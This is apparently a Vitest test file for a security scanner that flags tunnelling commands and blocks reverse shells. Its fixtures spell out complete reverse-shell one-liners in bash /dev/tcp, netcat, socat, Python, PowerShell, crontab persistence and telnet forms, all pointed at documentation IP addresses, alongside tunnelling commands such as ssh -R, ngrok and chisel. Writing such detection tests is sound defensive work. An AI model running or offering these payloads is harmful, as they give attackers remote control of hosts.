import { describe, expect, it } from 'vitest';
import { tunnelRules } from './tunnel';
import { run, ruleIds, spansValid, verdict } from './family-test-support';
import type { Shell } from '../types';

const flagged: Array<[string, Shell, string]> = [
  ['ssh -R 8080:localhost:80 user@203.0.113.7', 'bash', 'tunnel.ssh.forward'],
  // Start-Process with the arguments as a list or as one string.
  ["Start-Process ssh.exe -ArgumentList '-N','-R','13389:localhost:3389','t@203.0.113.5'", 'powershell', 'tunnel.ssh.forward'],
  ["Start-Process ssh -ArgumentList '-N -R 13389:localhost:3389 t@203.0.113.5'", 'powershell', 'tunnel.ssh.forward'],
  ['ssh -fNL 9999:db.internal:5432 jump', 'bash', 'tunnel.ssh.forward'],
  ['ssh -D 1080 user@host', 'bash', 'tunnel.ssh.forward'],
  ['ssh -o RemoteForward="8080 localhost:80" host', 'bash', 'tunnel.ssh.forward'],
  ['plink.exe -ssh -R 3389:127.0.0.1:3389 user@203.0.113.7', 'cmd', 'tunnel.ssh.forward'],
  ['ngrok tcp 3389', 'bash', 'tunnel.ngrok'],
  ['C:\\Users\\Public\\ngrok.exe http 80', 'powershell', 'tunnel.ngrok'],
  ['cloudflared tunnel --url http://localhost:8080', 'bash', 'tunnel.cloudflared'],
  ['chisel client 203.0.113.7:8000 R:socks', 'bash', 'tunnel.chisel'],
  ['frpc -c frpc.toml', 'bash', 'tunnel.frpc'],
  ['tailscale up', 'bash', 'tunnel.tailscale'],
  ['sudo zerotier-cli join 8056c2e21c000001', 'bash', 'tunnel.zerotier'],
  ['netbird.exe up --setup-key 8A1C2D3E-4F50 --management-url https://nb.example.net', 'powershell', 'tunnel.mesh-vpn'],
  ['sudo netbird up --setup-key 8A1C2D3E-4F50', 'bash', 'tunnel.mesh-vpn'],
  ['netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.5 connectport=80', 'cmd', 'tunnel.portproxy'],
  ['socat TCP-LISTEN:80,fork TCP4:10.0.0.5:80', 'bash', 'tunnel.socat-relay'],
  ['nc -l -p 8080 | nc 10.0.0.5 22', 'bash', 'tunnel.netcat-relay'],
  ['sudo systemctl start tor', 'bash', 'tunnel.service'],
];

const shells: Array<[string, Shell, string]> = [
  ['nc 203.0.113.7 4444 -e /bin/sh', 'bash', 'shell.netcat-exec'],
  ['ncat --sh-exec "/bin/bash" -l 4444', 'bash', 'shell.netcat-exec'],
  ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'bash', 'shell.dev-tcp'],
  // A cron line printed into crontab that opens a reverse shell.
  ['(crontab -l; echo "*/10 * * * * bash -c \'bash -i >& /dev/tcp/203.0.113.30/8443 0>&1\'") | crontab -', 'bash', 'shell.dev-tcp'],
  ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f', 'bash', 'shell.fifo-loop'],
  ['socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr', 'bash', 'shell.socat-exec'],
  [
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
    'bash',
    'shell.interpreter-socket',
  ],
  [
    '$c = New-Object System.Net.Sockets.TCPClient("203.0.113.7",4444);$s = $c.GetStream();while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String)}',
    'powershell',
    'shell.powershell-socket',
  ],
  ['telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445', 'bash', 'shell.network-pipe'],
];

const allowed: Array<[string, Shell]> = [
  ['netbird status', 'bash'],
  ['netbird down', 'powershell'],
  // /dev/tcp/ as an IOC pattern searched for in logs, not a device opened.
  ['#!/bin/bash\nPATTERNS=\'/dev/tcp/|base64 -d|nc -e\'\ngrep -nE "$PATTERNS" /var/log/auth.log', 'bash'],
  ["grep -r '/dev/tcp/' /home/*/.bash_history | sh -c 'cat > /tmp/hits'", 'bash'],
  ['ssh user@srv.example.net', 'bash'],
  ['ssh -l admin -p 2222 host', 'bash'],
  ['ssh -i ~/.ssh/id_ed25519 -J jump host uptime', 'bash'],
  ['nc -zv host 443', 'bash'],
  ['nc -v -z -w 3 host 20-25', 'bash'],
  ['echo -e "GET / HTTP/1.1\\n\\n" | nc host 80', 'bash'],
  ['cloudflared tunnel list', 'bash'],
  ['ngrok version', 'bash'],
  ['netsh interface portproxy show all', 'cmd'],
  ['wg-quick down wg0', 'bash'],
  ['socat - TCP4:www.example.com:80', 'bash'],
  ['Test-NetConnection host -Port 443', 'powershell'],
];

describe('tunnels and reverse shells', () => {
  it.each(flagged)('flags %s', (text, shell, id) => {
    const f = run(tunnelRules, text, shell);
    expect(ruleIds(f)).toContain(id);
    expect(verdict(f)).toBe('flag');
    expect(spansValid(f, text)).toBe(true);
  });
  it.each(shells)('blocks reverse shell %s', (text, shell, id) => {
    const f = run(tunnelRules, text, shell);
    expect(ruleIds(f)).toContain(id);
    const hit = f.find((x) => x.ruleId === id)!;
    expect(hit.code).toBe('reverse_shell');
    expect(hit.standard).toBe('block');
    expect(hit.extended).toBe('block');
    expect(spansValid(f, text)).toBe(true);
  });
  it.each(allowed)('allows %s', (text, shell) => {
    expect(run(tunnelRules, text, shell)).toEqual([]);
  });
});
